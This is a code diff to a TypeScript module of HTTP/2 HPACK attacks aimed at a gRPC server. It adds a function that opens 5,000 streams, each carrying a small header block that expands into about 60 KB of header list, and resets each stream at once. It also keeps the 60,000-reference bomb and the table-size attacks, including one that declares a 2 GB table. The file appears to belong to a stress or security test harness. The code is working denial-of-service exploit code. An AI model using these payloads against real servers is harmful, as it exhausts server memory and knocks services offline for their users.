@@ -1,6 +1,6 @@
 /** Header compression turned against memory: small blocks that become large lists, and table sizes. */
 import { deflateSync, gzipSync } from "node:zlib";
-import { concat, headers, repeat, setting } from "../http2/frames.ts";
+import { concat, headers, repeat, rstStream, setting } from "../http2/frames.ts";
 import { grpcHeaders, grpcMessage, issueMessage, methodPaths } from "../http2/grpc_request.ts";
 import { encodeHeaders, indexed, literal, tableSizeUpdate } from "../http2/hpack.ts";
 import { dataFrames } from "../http2/connection.ts";
@@ -12,38 +12,49 @@ const connections = 4;
 /** The most recent entry of the dynamic table. */
 const newest = indexed(62);
 
+const callBlock = encodeHeaders(grpcHeaders(methodPaths.issue));
+
+/**
+ * A list of 60 KB, just below what servers permit, in a block of 150 bytes. What is written at once
+ * is read in one turn of the server's event loop, and the resets free the places for further streams.
+ */
+async function bombs(connection: RawConnection): Promise<boolean> {
+  const first = connection.nextStream();
+  if (first === 1) {
+    await connection.ready;
+    const entry = literal(["x-a", "b".repeat(3_900)], "indexed");
+    await connection.send(headers(first, concat(callBlock, entry), { endStream: true }));
+  }
+  const block = concat(callBlock, repeat(newest, 14));
+  const streams = Array.from({ length: 5_000 }, () => {
+    const stream = connection.nextStream();
+    return concat(headers(stream, block), rstStream(stream));
+  });
+  return await connection.send(...streams);
+}
+
 /** 60 KB of references to an entry of 4 KB: 240 MB of header list a stream. */
-function bomb(stream: number): Uint8Array {
+function references(stream: number): Uint8Array {
   const entry = literal(["x-a", "b".repeat(4_000)], "indexed");
-  const block = concat(
-    encodeHeaders(grpcHeaders(methodPaths.issue)),
-    entry,
-    repeat(newest, 60_000),
-  );
+  const block = concat(callBlock, entry, repeat(newest, 60_000));
   return headers(stream, block, { endStream: true });
 }
 
 /** As many pairs as possible of which each weighs little. */
 function manyPairs(stream: number): Uint8Array {
   const entry = literal(["a", ""], "indexed");
-  const block = concat(encodeHeaders(grpcHeaders(methodPaths.issue)), entry, repeat(newest, 8_000));
+  const block = concat(callBlock, entry, repeat(newest, 8_000));
   return headers(stream, block, { endStream: true });
 }
 
 function sizeGame(stream: number): Uint8Array {
   const sizes = [0, 4_096, 0, 1, 4_095].map(tableSizeUpdate);
-  const block = concat(
-    ...new Array(200).fill(concat(...sizes)),
-    encodeHeaders(grpcHeaders(methodPaths.issue)),
-  );
+  const block = concat(repeat(concat(...sizes), 200), callBlock);
   return headers(stream, block, { endStream: true });
 }
 
 function hugeSize(stream: number): Uint8Array {
-  const block = concat(
-    tableSizeUpdate(0x7fff_ffff),
-    encodeHeaders(grpcHeaders(methodPaths.issue)),
-  );
+  const block = concat(tableSizeUpdate(0x7fff_ffff), callBlock);
   return headers(stream, block, { endStream: true });
 }
 
@@ -113,7 +124,8 @@ const tooMuch = { bytes: 16 * 1024 * 1024, messages: 1 };
 const permitted = { bytes: 500 * 1024, messages: 300 };
 
 const attacks: Readonly<Record<string, (attack: Attack) => Promise<string>>> = {
-  "hpack bomb of 60 KB a stream": perStream(bomb),
+  "hpack bomb of 60 KB a stream": (attack) => onFour(attack, { polite: false }, bombs),
+  "hpack bomb of 60,000 references": perStream(references),
   "hpack with thousands of pairs": perStream(manyPairs),
   "hpack table sizes": perStream(sizeGame),
   "hpack table of 2 GB": perStream(hugeSize),
